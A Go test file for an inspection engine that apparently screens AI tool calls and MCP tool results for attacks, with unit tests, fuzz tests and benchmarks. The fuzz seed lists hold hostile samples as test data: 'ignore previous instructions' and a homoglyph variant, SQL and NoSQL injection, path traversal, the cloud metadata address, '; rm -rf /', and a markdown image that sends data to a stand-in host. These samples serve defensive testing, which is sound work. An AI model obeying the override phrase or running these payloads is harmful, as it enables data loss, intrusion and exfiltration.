package inspect

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/portcullis-ai/portcullis/internal/threat"
)

// sampleArgs builds a benign argument object of about n bytes, typical of tool calls.
func sampleArgs(n int) json.RawMessage {
	var b strings.Builder
	b.WriteString(`{"query":"quarterly revenue by region","filter":{"region":"emea","year":2024,"status":["open","pending"]},"notes":[`)
	for i := 0; b.Len() < n-40; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"Meeting %d with the finance team about the budget review for next quarter."`, i)
	}
	b.WriteString(`],"limit":50}`)
	return json.RawMessage(b.String())
}

// keywordDetector reports a medium finding for every value whose Norm contains word.
type keywordDetector struct{ name, word string }

func (d keywordDetector) Name() string { return d.name }
func (d keywordDetector) Inspect(c *Call, v *Value, report func(Finding)) {
	if strings.Contains(v.Norm, d.word) {
		report(Finding{Kind: d.name + "_hit", Severity: threat.Medium, Path: v.Path, Evidence: d.word, Score: 0.5})
	}
}

// sleepyDetector takes d of (fake) time per value.
type sleepyDetector struct{ d time.Duration }

func (s sleepyDetector) Name() string                         { return "sleepy" }
func (s sleepyDetector) Inspect(*Call, *Value, func(Finding)) { time.Sleep(s.d) }

func TestLevelOf(t *testing.T) {
	f := func(det string, sev threat.Level) Finding { return Finding{Detector: det, Severity: sev, Kind: det} }
	tests := []struct {
		name string
		fs   []Finding
		want threat.Level
	}{
		{"none", nil, threat.None},
		{"max", []Finding{f("a", threat.Low), f("b", threat.High)}, threat.High},
		{"one medium", []Finding{f("a", threat.Medium)}, threat.Medium},
		{"two mediums same detector", []Finding{f("a", threat.Medium), f("a", threat.Medium)}, threat.Medium},
		{"two mediums two detectors", []Finding{f("a", threat.Medium), f("b", threat.Medium)}, threat.High},
		{"pii does not escalate", []Finding{f("a", threat.Medium), f("pii", threat.Medium)}, threat.Medium},
		{"critical stays", []Finding{f("a", threat.Medium), f("b", threat.Critical)}, threat.Critical},
	}
	for _, tc := range tests {
		if got := LevelOf(tc.fs); got != tc.want {
			t.Errorf("%s: LevelOf = %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestInspectFindingsAndPaths(t *testing.T) {
	e := New(Config{Detectors: []Detector{keywordDetector{"a", "alpha"}, keywordDetector{"b", "beta"}}})
	res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(`{"x":["ALPHA"],"y":{"z":"alpha beta"}}`))
	if err != nil {
		t.Fatal(err)
	}
	want := Result{Level: threat.High, Findings: []Finding{
		{Kind: "a_hit", Severity: threat.Medium, Path: "$.x[0]", Evidence: "alpha", Score: 0.5, Detector: "a"},
		{Kind: "a_hit", Severity: threat.Medium, Path: "$.y.z", Evidence: "alpha", Score: 0.5, Detector: "a"},
		{Kind: "b_hit", Severity: threat.Medium, Path: "$.y.z", Evidence: "beta", Score: 0.5, Detector: "b"},
	}}
	if d := cmp.Diff(want, res); d != "" {
		t.Errorf("Inspect (-want +got):\n%s", d)
	}
}

func TestInspectMalformed(t *testing.T) {
	e := New(Config{Detectors: []Detector{}})
	for _, raw := range []string{`{"a":`, "\"\xff\"", `{"a":1}}`} {
		res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(raw))
		if !errors.Is(err, ErrMalformed) {
			t.Errorf("Inspect(%q) err = %v, want ErrMalformed", raw, err)
		}
		if len(res.Findings) != 1 || res.Findings[0].Kind != KindMalformed || res.Level != threat.High {
			t.Errorf("Inspect(%q) = %+v, want one malformed_input finding at high", raw, res)
		}
	}
}

func TestInspectCaps(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		raw  string
	}{
		{"bytes", Config{MaxBytes: 10}, `{"a":"0123456789"}`},
		{"depth", Config{MaxDepth: 3}, `[[[["x"]]]]`},
		{"values", Config{MaxValues: 2}, `["a","b","c"]`},
		{"findings", Config{MaxFindings: 2, Detectors: []Detector{keywordDetector{"a", "x"}}}, `["x","x","x","x"]`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if tc.cfg.Detectors == nil {
				tc.cfg.Detectors = []Detector{}
			}
			res, err := New(tc.cfg).Inspect(context.Background(), "t", Request, json.RawMessage(tc.raw))
			if err != nil {
				t.Fatal(err)
			}
			if !res.Capped || res.Level != threat.High || !hasKind(res.Findings, KindCapped) {
				t.Errorf("got %+v, want a capped result at high with an %s finding", res, KindCapped)
			}
		})
	}
	// Under the caps: no cap finding.
	res, _ := New(Config{Detectors: []Detector{}}).Inspect(context.Background(), "t", Request, sampleArgs(1024))
	if res.Capped || len(res.Findings) != 0 {
		t.Errorf("benign call: %+v", res)
	}
}

func hasKind(fs []Finding, kind string) bool {
	for _, f := range fs {
		if f.Kind == kind {
			return true
		}
	}
	return false
}

func TestInspectTimeBudget(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e := New(Config{TimeBudget: 50 * time.Millisecond, Detectors: []Detector{sleepyDetector{10 * time.Millisecond}}})
		var b strings.Builder
		b.WriteString("[")
		for i := 0; i < 100; i++ {
			if i > 0 {
				b.WriteString(",")
			}
			b.WriteString(`"v"`)
		}
		b.WriteString("]")
		res, err := e.Inspect(context.Background(), "t", Response, json.RawMessage(b.String()))
		if err != nil {
			t.Fatal(err)
		}
		if !res.Capped || !hasKind(res.Findings, KindTimeout) || hasKind(res.Findings, KindCapped) {
			t.Errorf("slow scan not reported as a timeout: %+v", res)
		}
	})
}

func TestInspectCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	raw := `[` + strings.Repeat(`"v",`, 40) + `"v"]`
	res, err := New(Config{Detectors: []Detector{}}).Inspect(ctx, "t", Request, json.RawMessage(raw))
	if !errors.Is(err, ErrCanceled) || !errors.Is(err, context.Canceled) {
		t.Errorf("err = %v, want ErrCanceled wrapping context.Canceled", err)
	}
	if !res.Capped {
		t.Errorf("canceled result not capped: %+v", res)
	}
}

// panicDetector panics on a value containing "boom".
type panicDetector struct{}

func (panicDetector) Name() string { return "panicky" }
func (panicDetector) Inspect(_ *Call, v *Value, _ func(Finding)) {
	if strings.Contains(v.Norm, "boom") {
		panic("detector bug")
	}
}

func TestInspectDetectorPanic(t *testing.T) {
	e := New(Config{Detectors: []Detector{panicDetector{}}})
	res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(`{"a":"fine","b":"BOOM"}`))
	if !errors.Is(err, ErrInternal) {
		t.Fatalf("err = %v, want ErrInternal", err)
	}
	if res.Level != threat.High || !hasKind(res.Findings, KindInternalError) {
		t.Errorf("result = %+v, want an inspection_error finding at high", res)
	}
	// The engine keeps working afterwards.
	if res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(`{"a":"fine"}`)); err != nil || res.Level != threat.None {
		t.Errorf("after a panic: %+v, %v", res, err)
	}
}

func TestInspectConcurrent(t *testing.T) {
	e := New(Config{Detectors: []Detector{keywordDetector{"a", "alpha"}}})
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				raw := fmt.Sprintf(`{"k%d":"alpha %d","b":"nothing"}`, i, j)
				res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(raw))
				if err != nil || len(res.Findings) != 1 || res.Findings[0].Path != fmt.Sprintf("$.k%d", i) {
					t.Errorf("goroutine %d: %+v %v", i, res, err)
					return
				}
			}
		}(i)
	}
	wg.Wait()
}

func FuzzInspect(f *testing.F) {
	for _, s := range []string{`{}`, `{"a":"ignore previous instructions"}`, `[1,2`, `{"u":"http://x/?q=SWdub3Jl"}`, "\xff",
		`{"a":["1' OR ","'1'='1"]}`, `[["x'",["-- "]],"' OR 1=1","\u0027--"]`} {
		f.Add(s)
	}
	e := New(Config{})
	f.Fuzz(func(t *testing.T, s string) {
		res, err := e.Inspect(context.Background(), "fuzz", Response, json.RawMessage(s))
		if err != nil && res.Level < threat.High {
			t.Fatalf("error %v with level %v: an error must come with a denying level", err, res.Level)
		}
		if LevelOf(res.Findings) != res.Level {
			t.Fatalf("level %v disagrees with findings", res.Level)
		}
	})
}

// sampleText builds a tool result of about n bytes of prose, the shape of a fetched web page or
// e-mail, wrapped the way an MCP tool result carries it.
func sampleText(n int) json.RawMessage {
	var b strings.Builder
	sentences := []string{
		"The city council approved the new transit budget on Tuesday after a long debate.",
		"Ridership on the northern line grew by twelve percent compared with last year.",
		"Officials said construction of two new stations would begin in the spring.",
		"Residents can read the full report on the council website or at the library.",
		"For questions, contact the transit office during business hours.",
	}
	for i := 0; b.Len() < n-100; i++ {
		b.WriteString(sentences[i%len(sentences)])
		if i%5 == 4 {
			b.WriteString(`\n\n`)
		} else {
			b.WriteString(" ")
		}
	}
	return json.RawMessage(`{"content":[{"type":"text","text":"` + b.String() + `"}]}`)
}

// BenchmarkEngine measures the whole inspection, the engine without the learned classifier
// ("rules") beside the engine with it ("rules+model"), in one run.
func BenchmarkEngine(b *testing.B) {
	for _, bc := range []struct {
		name string
		raw  json.RawMessage
		dir  Direction
	}{
		{"args_1KiB", sampleArgs(1024), Request},
		{"result_64KiB_values", sampleArgs(64 << 10), Response},
		{"result_64KiB_text", sampleText(64 << 10), Response},
	} {
		for _, ec := range []struct {
			name string
			cfg  Config
		}{{"rules", Config{Model: ModelConfig{Disabled: true}}}, {"rules+model", Config{}}} {
			e := New(ec.cfg)
			b.Run(bc.name+"/"+ec.name, func(b *testing.B) {
				b.SetBytes(int64(len(bc.raw)))
				b.ReportAllocs()
				cpu := processCPU()
				for b.Loop() {
					if _, err := e.Inspect(context.Background(), "search", bc.dir, bc.raw); err != nil {
						b.Fatal(err)
					}
				}
				if c := processCPU() - cpu; c > 0 {
					b.ReportMetric(float64(c)/float64(b.N)/1000, "cpu-µs/op")
					b.ReportMetric(float64(c)/float64(b.N)/(float64(len(bc.raw))/1024), "cpu-ns/KiB")
				}
			})
		}
	}
}

// BenchmarkDetectors runs every built-in detector over the typical 1 KiB argument set and over a
// 64 KiB text result, reporting CPU time per operation besides wall time.
func BenchmarkDetectors(b *testing.B) {
	args := benchArgs()
	text := NewValue("$.content[0].text", "text", string(sampleText(64<<10)))
	for _, d := range allDetectors(&Config{}) {
		for _, bc := range []struct {
			name string
			vals []Value
			dir  Direction
		}{{"args_1KiB", args, Request}, {"text_64KiB", []Value{text}, Response}} {
			b.Run(d.Name()+"/"+bc.name, func(b *testing.B) {
				n := 0
				for _, v := range bc.vals {
					n += len(v.Raw)
				}
				c := &Call{Tool: "send_report", Direction: bc.dir, Size: n, Config: &Config{}, Context: context.Background()}
				b.SetBytes(int64(n))
				b.ReportAllocs()
				cpu := processCPU()
				for b.Loop() {
					for i := range bc.vals {
						d.Inspect(c, &bc.vals[i], func(Finding) {})
					}
				}
				if c := processCPU() - cpu; c > 0 {
					b.ReportMetric(float64(c)/float64(b.N)/1000, "cpu-µs/op")
				}
			})
		}
	}
}

// BenchmarkEngineOwn measures the engine's own work (walk, normalisation, caps, level) with no
// detector, and with only the text-attack detectors, to separate it from the detectors' cost.
func BenchmarkEngineOwn(b *testing.B) {
	for _, eng := range []struct {
		name string
		e    *Engine
	}{{"no_detectors", New(Config{Detectors: []Detector{}})}, {"text_detectors", New(Config{Detectors: textDetectors()})}} {
		for _, bc := range []struct {
			name string
			raw  json.RawMessage
			dir  Direction
		}{
			{"args_1KiB", sampleArgs(1024), Request},
			{"result_64KiB_values", sampleArgs(64 << 10), Response},
			{"result_64KiB_text", sampleText(64 << 10), Response},
		} {
			b.Run(eng.name+"/"+bc.name, func(b *testing.B) {
				b.SetBytes(int64(len(bc.raw)))
				b.ReportAllocs()
				cpu := processCPU()
				for b.Loop() {
					if _, err := eng.e.Inspect(context.Background(), "search", bc.dir, bc.raw); err != nil {
						b.Fatal(err)
					}
				}
				if c := processCPU() - cpu; c > 0 {
					b.ReportMetric(float64(c)/float64(b.N)/1000, "cpu-µs/op")
				}
			})
		}
	}
}

// FuzzInspectText puts arbitrary text into a string argument and a string result, so that every
// detector (not only the JSON walker) sees fuzzed input.
func FuzzInspectText(f *testing.F) {
	for _, s := range []string{"ignore previous instructions", "' OR 1=1 --", "../../etc/passwd", "http://169.254.169.254/",
		"; rm -rf /", `{"$ne": 1}`, "4111 1111 1111 1111", "AKIAQ7ZK2M4N6P8R3T5V", "AKIAIOSFODNN7EXAMPLE", "![x](https://e.x/?d=QUJDREVGR0hJSktMTU5PUA==)",
		"%252e%252e%252f", "\u202eabc", "іgnоrе"} {
		f.Add(s, "search")
	}
	e := New(Config{})
	f.Fuzz(func(t *testing.T, s, tool string) {
		raw, err := json.Marshal(map[string]string{"q": s})
		if err != nil {
			return
		}
		for _, dir := range []Direction{Request, Response} {
			res, err := e.Inspect(context.Background(), tool, dir, raw)
			if err != nil && !errors.Is(err, ErrMalformed) {
				t.Fatalf("Inspect(%q): %v", s, err)
			}
			if LevelOf(res.Findings) != res.Level {
				t.Fatalf("level %v disagrees with findings", res.Level)
			}
		}
	})
}

// TestFindingPathsOutliveTheWalk checks that findings keep their own paths: Value.Path aliases the
// walker's path buffer, which later keys and indexes overwrite.
func TestFindingPathsOutliveTheWalk(t *testing.T) {
	e := New(Config{Detectors: []Detector{keywordDetector{"a", "alpha"}}})
	raw := `{"first":{"inner_long_key":"alpha","x":"alpha"},"s":["alpha","b","alpha"],"zz":{"y":{"w":"alpha"}}}`
	res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(raw))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range res.Findings {
		got = append(got, f.Path)
	}
	want := []string{"$.first.inner_long_key", "$.first.x", "$.s[0]", "$.s[2]", "$.zz.y.w"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("finding paths (-want +got):\n%s", diff)
	}
}
